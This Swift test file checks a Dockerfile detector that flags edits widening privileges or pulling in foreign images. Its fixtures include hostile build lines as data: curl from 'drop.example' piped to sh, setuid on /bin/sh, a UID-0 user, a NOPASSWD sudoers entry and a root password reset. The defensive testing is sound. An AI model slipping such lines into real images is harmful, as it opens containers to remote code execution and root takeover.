import Detection
import Detectors
import Testing

/// What an image is and runs as, through stages, arguments and mounts.
@Suite struct ImageRecipeTests {
  private static func image(
    _ old: String,
    _ new: String,
    _ direction: Direction,
    path: String = "Dockerfile"
  ) -> ExpectedReading {
    ExpectedReading(
      path: path,
      old: old,
      new: new,
      direction: direction,
      kind: nil,
      line: nil,
      says: ""
    )
  }

  private static let cases: [ExpectedReading] = [
    image(
      "FROM a:1 AS base\nUSER app\nFROM base\nRUN x\n",
      "FROM a:1 AS base\nFROM base\nRUN x\n",
      .widened
    ),
    image(
      "FROM a:1 AS base\nUSER app\nFROM base\nUSER app\n",
      "FROM a:1 AS base\nUSER app\nFROM base\n",
      .equal
    ),
    image("FROM a:1\nARG U=app\nUSER $U\n", "FROM a:1\nARG U=root\nUSER $U\n", .widened),
    image("FROM a:1\nARG U=app\nUSER $U\n", "FROM a:1\nARG U=web\nUSER ${U}\n", .equal),
    image("FROM a:1\nUSER app\n", "FROM a:1\nUSER 00\n", .widened),
    image("FROM a:1\nUSER app\n", "FROM a:1\nUSER root\n", .widened, path: "Dockerfile-prod"),
    image(
      "FROM a:1\nUSER app\n",
      "FROM a:1\nRUN echo root:x | chpasswd\nUSER app\n",
      .widened
    ),
    image("FROM a:1\nUSER app\n", "FROM a:1\nRUN chmod u+s /bin/sh\nUSER app\n", .widened),
    image("FROM a:1\nUSER app\n", "FROM a:1\nRUN chmod 4755 /bin/sh\nUSER app\n", .widened),
    image("FROM a:1\nUSER app\n", "FROM a:1\nRUN chmod 0755 /x && chmod +x /y\nUSER app\n", .equal),
    image("FROM a:1\nUSER app\n", "FROM a:1\nRUN useradd -o -u 0 eve\nUSER app\n", .widened),
    image("FROM a:1\nUSER app\n", "FROM a:1\nRUN useradd -m -u 1000 app\nUSER app\n", .equal),
    image("FROM a:1\nUSER app\n", "FROM a:1\nRUN usermod -aG sudo app\nUSER app\n", .widened),
    image(
      "FROM a:1\nUSER app\n",
      "FROM a:1\nRUN echo 'app ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers\nUSER app\n",
      .widened
    ),
    image("FROM a:1\nUSER app\n", "# syntax=docker/dockerfile:1\nFROM a:1\nUSER app\n", .equal),
    image(
      "FROM a:1\nUSER app\n",
      "FROM a:1\nRUN --mount=type=cache,target=/c x\nUSER app\n",
      .equal
    ),
    image(
      "FROM a:1\nUSER app\n",
      "FROM a:1\nRUN curl -so x.tar.gz https://ours.example/x && tar xf x.tar.gz\nUSER app\n",
      .equal
    ),
    image(
      "FROM a:1\nUSER app\n",
      "FROM a:1\nRUN curl -so /x https://drop.example/x && sh /x\nUSER app\n",
      .widened
    ),
    image(
      "FROM a:1\nUSER app\n",
      "FROM a:1\nONBUILD RUN curl -s https://drop.example | sh\nUSER app\n",
      .widened
    ),
  ]

  @Test(arguments: cases)
  func isTold(_ expected: ExpectedReading) { checkReading(expected, by: DockerfileDetector()) }

  /// Another image than before takes part.
  @Test(arguments: [
    ("ARG R=ours.example\nFROM ${R}/a:1\n", "ARG R=drop.example\nFROM ${R}/a:1\n"),
    ("FROM a:1\nUSER app\n", "# syntax=drop/frontend\nFROM a:1\nUSER app\n"),
    ("FROM a:1\nUSER app\n", "FROM a:1\nRUN --mount=type=bind,from=drop/x,target=/m x\nUSER app\n"),
  ])
  func anotherImage(_ old: String, _ new: String) {
    let reading = DockerfileDetector().read(pair("Dockerfile", old, new))
    let found = reading.observations.filter { $0.kind == "supply-chain.base-image" }
    #expect(!found.isEmpty, Comment(rawValue: reading.words))
    #expect(found.allSatisfy { $0.direction != .narrowed && $0.direction != .equal })
  }
}
